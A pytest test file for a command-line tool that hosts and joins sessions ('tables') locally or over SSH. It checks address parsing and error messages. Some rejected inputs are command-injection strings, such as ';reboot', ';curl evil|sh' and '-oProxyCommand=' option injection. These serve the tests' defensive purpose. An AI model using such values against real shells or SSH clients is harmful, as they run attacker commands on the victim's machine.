"""The command line of the roads on one machine and through a server."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from net.local.places import VARIABLE
from tests.net.local_parts import left_behind, own_folder, silent
from tests.net.sshd_parts import shared_place
from tui import cli, commands_evening, roads
from tui.faults import FAILED, WRONG
from tui.options import Invite, JoinWish, Options

PIN = "SHA256:" + "A/+" * 14 + "A"


@pytest.fixture(autouse=True)
def place(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """An empty shared folder."""
    with shared_place() as found:
        monkeypatch.setenv(VARIABLE, str(found))
        yield found


@pytest.fixture
def began(monkeypatch: pytest.MonkeyPatch) -> list[Invite]:
    """What the command line would have started, instead of starting it."""
    found: list[Invite] = []

    def begin(invite: Invite, _chosen: Options, *, plain: bool) -> int:
        found.append(invite)
        return int(plain) * 0

    monkeypatch.setattr(commands_evening, "begin", begin)
    return found


def test_a_fingerprint_with_a_slash_is_no_table(began: list[Invite]) -> None:
    """What the host reads out can be typed as it is, whatever its key is (E4)."""
    assert cli.main(["join", f"anna.example:99#{PIN}", "--plain"]) == 0
    assert began == [JoinWish("anna.example", 99, PIN, None, None)]


@pytest.mark.parametrize(
    ("address", "here"),
    [
        (None, True),
        ("ann/one-hundred", True),
        ("ann/", True),
        ("ann", False),
        ("one-hundred", False),
        ("ann:22", False),
        ("ssh://ann/one-hundred", False),
        (f"ann#{PIN}", False),
    ],
)
def test_only_a_slash_leads_to_a_table_here(address: str | None, here: bool) -> None:
    """A host's name is never taken by a table that somebody has opened on this machine."""
    assert roads.leads_here(address) is here


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["join", "/x", "--plain"], "names no table"),
        (["join", "a/b/c", "--plain"], "names no table"),
        (["join", "ann/x;reboot", "--plain"], "names no table"),
        (["join", "ssh://me@server/x;curl evil|sh", "--plain"], "names no table"),
        (["join", "ssh://-oProxyCommand=touch x", "--plain"], "no name of a server"),
        (["join", "ssh://me@-oProxyCommand=x", "--plain"], "no name of a server"),
        (["join", "ssh://-l@server", "--plain"], "no name of an account"),
        (["join", "ssh://tilde"], "use --plain"),
        (["host", "one-hundred", "--everyone"], "--local opens a socket"),
        (["host", "one-hundred", "--group", "staff"], "--local opens a socket"),
        (["host", "one-hundred", "--local", "--everyone", "--group", "x"], "not for both"),
    ],
)
def test_wrong_words_get_one_sentence_and_code_two(
    words: list[str], told: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """E1: nothing of an address that is none is handed to a program."""
    assert cli.main(words) == WRONG
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.startswith("stammtisch: ")
    assert said.err.count("\n") == 1
    assert told in said.err


def test_no_table_is_a_sentence(capsys: pytest.CaptureFixture[str], place: Path) -> None:
    """Nothing to list is no fault; nothing to join is one. Silent and stale sockets are none."""
    left_behind(own_folder(place), "old")
    with silent(own_folder(place), "silent"):
        assert cli.main(["tables"]) == 0
        assert capsys.readouterr().out == "No table is open to you on this machine.\n"
        assert cli.main(["tables", "--json"]) == 0
        assert json.loads(capsys.readouterr().out) == []
        assert cli.main(["join", "--plain"]) == FAILED
        assert capsys.readouterr().err == (
            "stammtisch: There is no table that is open to you on this machine.\n"
        )


def test_the_relay_is_not_for_people(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Typed at a terminal it says what it is for."""
    monkeypatch.setattr(roads, "_typed_at_a_terminal", lambda: True)
    assert cli.main(["relay"]) == WRONG
    assert "use stammtisch join" in capsys.readouterr().err
